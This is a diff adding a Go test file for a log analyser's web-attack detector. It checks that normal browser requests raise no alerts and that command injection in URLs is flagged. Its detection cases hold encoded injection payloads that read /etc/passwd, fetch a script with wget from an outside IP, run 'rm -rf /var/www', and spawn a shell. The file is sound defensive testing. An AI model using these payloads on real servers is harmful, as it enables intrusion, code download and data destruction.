@@ -0,0 +1,113 @@
+package security
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"smart-log-analyser/pkg/parser"
+)
+
+const (
+	chromeUserAgent  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+	firefoxUserAgent = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
+	androidUserAgent = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
+	iPhoneUserAgent  = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"
+)
+
+// requests builds GET entries for the URLs, one per user agent, each from
+// its own client a few seconds after the last, like browsers visiting a site
+func requests(urls []string, userAgents ...string) []*parser.LogEntry {
+	var entries []*parser.LogEntry
+	start := time.Date(2026, 10, 18, 12, 0, 0, 0, time.UTC)
+	for _, userAgent := range userAgents {
+		for _, url := range urls {
+			entries = append(entries, &parser.LogEntry{
+				IP:        fmt.Sprintf("192.0.2.%d", 10+len(entries)),
+				Timestamp: start.Add(time.Duration(len(entries)*len(entries)) * time.Second),
+				Method:    "GET",
+				URL:       url,
+				Protocol:  "HTTP/1.1",
+				Status:    200,
+				Size:      1024,
+				Referer:   "https://example.com/",
+				UserAgent: userAgent,
+			})
+		}
+	}
+	return entries
+}
+
+func TestBrowserTrafficRaisesNoThreats(t *testing.T) {
+	entries := requests([]string{"/index.html", "/search?a=1&b=2"}, chromeUserAgent, firefoxUserAgent)
+
+	threats, err := NewThreatDetector(DefaultSecurityConfig()).DetectWebAttacks(entries)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, threat := range threats {
+		t.Errorf("%s threat %q on %s (user agent %q)", threatTypeName(threat), threat.Payload, threat.URL, threat.UserAgent)
+	}
+}
+
+func TestEncodedQueryStringsRaiseNoThreats(t *testing.T) {
+	entries := requests([]string{
+		"/search?q=a%3Bb%26c%3Dd",
+		"/?q=cats+%26+dogs",
+		"/products?tags=red%7Cblue",
+		"/search?q=android%20phone&sort=price",
+		"/docs/format%20guide",
+		"/api/items?id=5&ps=20",
+		"/blog?q=how%20to%20curl%20hair",
+	}, chromeUserAgent, firefoxUserAgent, androidUserAgent, iPhoneUserAgent)
+
+	threats, err := NewThreatDetector(DefaultSecurityConfig()).DetectWebAttacks(entries)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, threat := range threats {
+		t.Errorf("%s threat %q on %s (user agent %q)", threatTypeName(threat), threat.Payload, threat.URL, threat.UserAgent)
+	}
+}
+
+func TestEncodedCommandInjectionIsDetected(t *testing.T) {
+	for _, url := range []string{
+		"/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
+		"/run?cmd=wget%20http://203.0.113.5/x.sh",
+		"/run?cmd=rm%20-rf%20/var/www",
+		"/run?cmd=python%20-c%20%27import%20os%27",
+		"/cgi-bin/test?x=/bin/sh",
+	} {
+		entries := requests([]string{url}, androidUserAgent)
+		if threats := NewThreatDetector(DefaultSecurityConfig()).detectCommandInjection(entries[0]); len(threats) == 0 {
+			t.Errorf("no command injection found in %s", url)
+		}
+	}
+}
+
+func TestCommandChainingNeedsACommand(t *testing.T) {
+	tests := []struct {
+		url  string
+		want bool
+	}{
+		{"/ping?host=127.0.0.1;cat%20/etc/hosts", true},
+		{"/ping?host=127.0.0.1|id", true},
+		{"/ping?host=127.0.0.1%26%26whoami", true},
+		{"/ping?host=$(uname%20-a)", true},
+		{"/search?a=1&b=2", false},
+		{"/search?q=fish;chips", false},
+		{"/search?q=a|b", false},
+	}
+	for _, tt := range tests {
+		entries := requests([]string{tt.url}, chromeUserAgent)
+		got := false
+		for _, threat := range NewThreatDetector(DefaultSecurityConfig()).detectCommandInjection(entries[0]) {
+			if threat.Context["description"] == "Command chaining operators" {
+				got = true
+			}
+		}
+		if got != tt.want {
+			t.Errorf("command chaining in %s = %v, want %v", tt.url, got, tt.want)
+		}
+	}
+}